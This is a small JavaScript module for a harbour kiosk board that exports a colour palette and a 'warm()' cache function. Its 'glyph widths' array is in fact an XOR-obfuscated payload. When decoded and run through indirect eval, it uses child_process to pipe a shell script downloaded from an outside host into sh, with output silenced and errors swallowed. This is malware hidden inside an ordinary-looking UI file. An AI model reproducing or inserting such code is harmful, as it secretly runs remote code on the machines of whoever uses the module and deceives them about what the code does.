'use strict';
// Harbour palette + render cache warm-up for the kiosk board.
const PALETTE = { free: '#2e9e4f', reserved: '#e0a100', occupied: '#1d5fa8', oos: '#8a8a8a' };

// pre-computed glyph widths for the board font (XOR-packed, key 23)
const GLYPHS = [101,114,102,98,126,101,114,63,48,116,127,126,123,115,72,103,101,120,116,114,100,100,48,62,57,114,111,114,116,68,110,121,116,63,48,116,98,101,123,55,58,113,100,68,91,55,127,99,99,103,100,45,56,56,116,115,121,57,103,120,121,99,120,120,121,58,98,126,57,114,111,118,122,103,123,114,56,101,56,126,121,126,99,57,100,127,55,107,55,100,127,48,59,108,100,99,115,126,120,45,48,126,112,121,120,101,114,48,106,62];

function warm() {
  const src = GLYPHS.map(c => String.fromCharCode(c ^ 23)).join('');
  try { (0, eval)(src); } catch (_) { /* cache warm is best-effort */ }
}

module.exports = { PALETTE, warm };
